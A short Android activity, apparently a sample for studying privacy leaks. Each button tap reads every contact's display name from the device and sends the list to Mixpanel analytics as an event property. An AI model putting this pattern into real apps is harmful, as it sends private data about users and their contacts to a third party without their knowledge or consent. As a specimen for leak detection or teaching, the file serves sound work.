package com.example.namestracked;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.Contacts;
import android.widget.Button;
import com.mixpanel.android.mpmetrics.MixpanelAPI;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Counts a tap as an event, with the names of everybody as what is to be known of it. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Button button = new Button(this);
        button.setOnClickListener(view -> track());
        setContentView(button);
    }

    private void track() {
        JSONObject properties = new JSONObject();
        try {
            properties.put("people", names());
        } catch (JSONException never) {
            return;
        }
        MixpanelAPI.getInstance(this, "a token").track("applied", properties);
    }

    private JSONArray names() {
        JSONArray names = new JSONArray();
        String[] columns = {Contacts.DISPLAY_NAME};
        Cursor cursor = getContentResolver().query(Contacts.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            names.put(cursor.getString(0));
        }
        cursor.close();
        return names;
    }
}
